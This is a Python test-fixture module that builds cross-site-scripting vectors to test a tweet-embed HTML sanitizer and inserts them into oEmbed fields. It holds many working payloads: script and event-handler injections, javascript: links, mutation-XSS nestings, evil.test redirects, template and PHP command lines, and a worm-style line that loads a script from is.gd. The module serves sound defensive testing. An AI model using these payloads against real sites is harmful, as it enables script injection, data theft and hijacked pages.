"""Attacks: the known ones from other projects (where the corpus is), our own, and a grammar that
joins tricks; and every place for them.
"""

import json
import re
from collections.abc import Iterator
from itertools import product
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "xss"
ID = "1988151234567890123"
PERMALINK = f"https://x.com/Ada_L/status/{ID}"

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a onclick="alert(1)" href="https://t.co/a">x</a>',
    "<p onmouseenter=alert(1)>x",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://x.com/1">x</a>',
    '<a href="//evil.test">x.com</a>',
    r'<a href="\\evil.test">x</a>',
    r'<a href="https:\\evil.test">x</a>',
    '<a href="https://x.com@evil.test">x</a>',
    '<a href="https://x.com.evil.test/Ada_L/status/1">@Ada_L</a>',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
        ' onerror=alert(1)&gt;">'
    ),
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><p></xmp><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<div>" * 600 + "<img src=x onerror=alert(1)>",
    "<b>" * 200 + "<p>" + "</b>" * 200 + "x",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<p style="position:fixed;inset:0">x</p>',
    '<a class="twitter-share-button" data-text="x" href="https://x.com/share">x</a>',
    '<a class="twitter-timeline" href="https://x.com/evil">x</a>',
    '<p id="currentScript" name="attributes">x</p>',
    (
        '<blockquote class="twitter-tweet" data-tweet-id="20"><a'
        ' href="https://x.com/jack/status/20">x</a></blockquote>'
    ),
    "-->",
    "]]>",
    "</blockquote></div></td></table><h1>out</h1>",
    "</p></blockquote><script>alert(1)</script>",
    "<blockquote>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "a\r\nb\u2028c\u2029d",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "[caption]<script>alert(1)</script>[/caption]",
    "[embed]https://evil.test/[/embed]",
    "<?php system('id') ?>",
    "<%= system('id') %>",
    r"""http://t.co/@"style="font-size:999999999999px;"onmouseover="$.getScript('http:\u002f\u002fis.gd\u002ffl9A7')"class/""",
    "\"'><img src=x onerror=alert(1)>",
    "' onfocus=alert(1) autofocus x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202ehttps://x.com/\u202c",
    "<a href='https://evil.test/'>https://x.com\u2215Ada</a>",
    "<p/onclick=alert(1)>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<<script>alert(1)//<</script>",
    "<br/onload=alert(1)>",
]
OPENINGS = [
    "",
    "x ",
    "<p>",
    "</p>",
    "</a></p></blockquote>",
    "<!--",
    "--><p>",
    "<style>",
    "<title>",
    "</title>",
    "<svg>",
    "<svg><desc>",
    "<math><mtext>",
    "<table><tr>",
    "<select><option>",
    "<noscript>",
    "<template>",
    "<b><i><u><p>",
    "<a href=https://t.co/a>",
    "<![CDATA[",
    "\x00",
    "&#0;",
    "[gallery]",
    "{{",
    "\u202e",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https:\\\\evil.test'>x</a>",
    "<a href=https://x.com@evil.test/>@Ada_L</a>",
    "<a href=//evil.test>https://x.com/Ada_L</a>",
    "<p style=position:fixed id=twttr>x</p>",
    (
        "<form action=https://evil.test><input name=attributes><button"
        " formaction=javascript:alert(1)>x</button></form>"
    ),
    (
        "<div class=tweet-embed><button class=tweet-embed-load type=button"
        " onclick=alert(1)>x</button></div>"
    ),
    '<blockquote class="twitter-tweet"><a href="https://x.com/jack/status/20">x</a></blockquote>',
    "<amp-twitter data-tweetid=20 layout=responsive width=1 height=1 on=tap:x></amp-twitter>",
]
WRITINGS = {
    "as it is": lambda text: text,
    "escaped": lambda text: text.replace("&", "&amp;").replace("<", "&lt;"),
    "in capitals": str.upper,
    "with NUL": lambda text: text.replace("<", "<\x00"),
    "cut": lambda text: text[: len(text) * 2 // 3],
    "in numbers": lambda text: "".join(f"&#{ord(character)};" for character in text),
    "in numbers without an end": lambda text: "".join(
        f"&#x{ord(character):x}" for character in text
    ),
    "slashed": lambda text: text.replace(" ", "/"),
    "with line breaks": lambda text: text.replace(" ", "\r\n\x0c"),
    "twice": lambda text: text + text,
    "in quotes": lambda text: f"\"'>{text}",
}


def grammar() -> Iterator[str]:
    """Every opening before every payload in every writing."""
    for opening, payload, write in product(OPENINGS, PAYLOADS, WRITINGS.values()):
        yield opening + write(payload)


OEMBED_FIELDS = (
    "html",
    "words",
    "attribution",
    "date",
    "href",
    "lang",
    "url",
    "author_name",
    "author_url",
    "provider_name",
    "title",
    "version",
)
ARTICLE_FIELDS = (
    "whole",
    "words",
    "attribution",
    "date",
    "href",
    "lang",
    "class",
    "data-theme",
    "bare",
)


def embed(
    words: str = "Hi",
    attribution: str = "&mdash; Ada (@Ada_L)",
    date: str = "November 11, 2025",
    href: str = "https://t.co/a",
    lang: str = "en",
) -> str:
    paragraph = f'<p lang="{lang}">{words} <a href="{href}">y</a></p>'
    return (
        f'<blockquote class="twitter-tweet">{paragraph}{attribution} <a'
        f' href="{PERMALINK}">{date}</a></blockquote>'
    )


def oembed_answer(field: str, vector: str) -> bytes:
    fields = {
        "url": PERMALINK,
        "author_name": "Ada",
        "author_url": "https://x.com/Ada_L",
        "html": embed(),
        "type": "rich",
        "version": "1.0",
    }
    if field in {"words", "attribution", "date", "href", "lang"}:
        fields["html"] = embed(**{field: vector})
    else:
        fields[field] = vector
    return json.dumps(fields).encode()


def article_embed(field: str, vector: str) -> str:
    if field == "whole":
        return vector + embed()
    if field == "bare":
        return f'<blockquote>{vector}— Ada (@Ada_L) <a href="{PERMALINK}">{vector}</a></blockquote>'
    if field in {"class", "data-theme"}:
        return (
            embed()
            .replace("<blockquote ", f'<blockquote {field}="twitter-tweet {vector}" ')
            .replace(' class="twitter-tweet">', ">")
        )
    return embed(**{field: vector})


def corpus_vectors() -> Iterator[str]:
    for name in ("bleach_data", "bleach_test_clean_pairs", "dompurify_expect"):
        yield from (
            entry["payload"] for entry in json.loads((CORPUS / f"{name}.json").read_text("utf-8"))
        )
    yield from json.loads((CORPUS / "owasp_xss_vectors.json").read_text("utf-8"))
    for path in sorted(CORPUS.glob("*tree-construction*.dat.txt")):
        yield from re.findall(
            r"^#data\n(.*?)\n#errors",
            path.read_text("utf-8"),
            re.DOTALL | re.MULTILINE,
        )
    for path in sorted(CORPUS.glob("*tokenizer*.test.json")):
        for test in json.loads(path.read_text("utf-8")).get("tests", ()):
            yield json.loads(f'"{test["input"]}"') if test.get("doubleEscaped") else test["input"]
